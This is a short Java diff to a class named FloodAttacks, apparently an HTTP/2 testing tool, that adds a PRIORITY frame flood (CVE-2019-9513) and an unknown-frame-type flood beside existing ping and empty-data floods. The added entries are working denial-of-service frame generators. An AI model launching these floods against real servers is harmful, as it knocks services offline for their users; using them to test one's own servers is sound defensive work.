@@ -18,6 +18,12 @@ final class FloodAttacks {
     /// The first number of the connection's own headers.
     private static final int FIRST_OWN = 62;
 
+    /// RFC 9113 §6.3.
+    private static final int PRIORITY = 2;
+
+    /// A type that no specification has taken.
+    private static final int UNKNOWN = 0xbe;
+
     private static final int BOMB_HEADERS = 16_000;
 
     private final Derivation to;
@@ -76,6 +82,20 @@ final class FloodAttacks {
                 "ping-flood",
                 "asks whether anybody is there without end (CVE-2019-9512)",
                 (streams, _) -> streams.put(new Frame(Frame.PING, 0, 0, new byte[8])));
+        add(
+                "priority-flood",
+                "says without end what should come first (CVE-2019-9513)",
+                (streams, round) ->
+                        streams.put(
+                                new Frame(
+                                        PRIORITY,
+                                        0,
+                                        stream(round),
+                                        new byte[] {0, 0, 0, 0, (byte) (round % 256)})));
+        add(
+                "unknown-frame-flood",
+                "sends frames without end that nobody knows (RFC 9113 §5.5)",
+                (streams, _) -> streams.put(new Frame(UNKNOWN, 0, 0, new byte[8])));
         add(
                 "empty-data-flood",
                 "sends empty parts of a body without end (CVE-2019-9518)",
